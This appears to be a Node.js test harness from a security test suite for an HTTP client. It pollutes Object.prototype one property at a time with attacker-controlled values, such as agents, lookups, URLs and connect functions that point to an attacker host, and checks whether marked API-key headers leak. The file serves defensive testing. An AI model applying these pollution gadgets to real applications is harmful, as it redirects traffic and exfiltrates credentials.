// Runs in a separate process: it pollutes `Object.prototype` with one name after the other, and calls each route.
import { readFileSync } from 'node:fs';
import { Agent as HttpAgent } from 'node:http';
import { Agent as HttpsAgent } from 'node:https';
import { connect as connectSocket } from 'node:net';
import { inspect } from 'node:util';

const { clientModule, pollutions, routes, attacker, certificates } = JSON.parse(readFileSync(0, 'utf8'));
const { connect } = await import(clientModule);

/** Resolves every host name to this machine. */
const lookup = (_name, options, callback) => {
  if (options.all) callback(null, [{ address: '127.0.0.1', family: 4 }]);
  else callback(null, '127.0.0.1', 4);
};

const receivedArguments = [];
const attackerValues = {
  'a function that connects': (...args) => {
    receivedArguments.push(args);
    return connectSocket(attacker.port, attacker.host);
  },
  'a function that accepts everything': (...args) => void receivedArguments.push(args),
  'a lookup': (_name, options, callback) =>
    options?.all
      ? callback?.(null, [{ address: attacker.host, family: 4 }])
      : callback?.(null, attacker.host, 4),
  'an address': { protocol: 'http:', host: attacker.host, hostname: attacker.host, port: attacker.port },
  'an agent': new (class extends HttpAgent {
    createConnection() {
      return connectSocket(attacker.port, attacker.host);
    }
  })(),
  'a transport': { request: (options) => void receivedArguments.push([options]) },
  'a URL': `http://${attacker.host}:${attacker.port}`,
  'a host': attacker.host,
  'a port': attacker.port,
  'a socket path': attacker.path,
  'a certificate': certificates.untrusted,
  'a host name': 'other.test',
  false: false,
  true: true,
};

function prepare(route, key) {
  const agent =
    route.trusts && new HttpsAgent({ ca: route.trusts.map((name) => certificates[name]), lookup });
  const proxy = route.proxy;
  const get = connect({ url: route.url, proxy, httpsAgent: agent || undefined });
  return () =>
    get(route.url, { headers: { apikey: key }, params: { a: 1 }, signal: AbortSignal.timeout(2_000) });
}

/** Keeps the process alive, because a polluted call may leave nothing that the event loop waits for. */
setInterval(() => {}, 1_000);

const objectPrototype = Object.getPrototypeOf({});
const leaks = [];
for (const [name, kind] of pollutions) {
  const keyOf = (route) => `${attacker.keyPrefix}|${route.name}|${name}|${kind}|`;
  const calls = routes.map((route) => prepare(route, keyOf(route)));
  receivedArguments.length = 0;
  const value = attackerValues[kind];
  Object.defineProperty(objectPrototype, name, {
    __proto__: null,
    value,
    configurable: true,
    enumerable: true,
    writable: true,
  });
  await Promise.allSettled(calls.map(async (call) => call()));
  delete objectPrototype[name];
  const stolen = inspect(receivedArguments, { depth: 6, maxArrayLength: 50, maxStringLength: 20_000 });
  for (const route of routes) if (stolen.includes(keyOf(route))) leaks.push(keyOf(route));
}
process.stdout.write(JSON.stringify(leaks), () => process.exit(0));
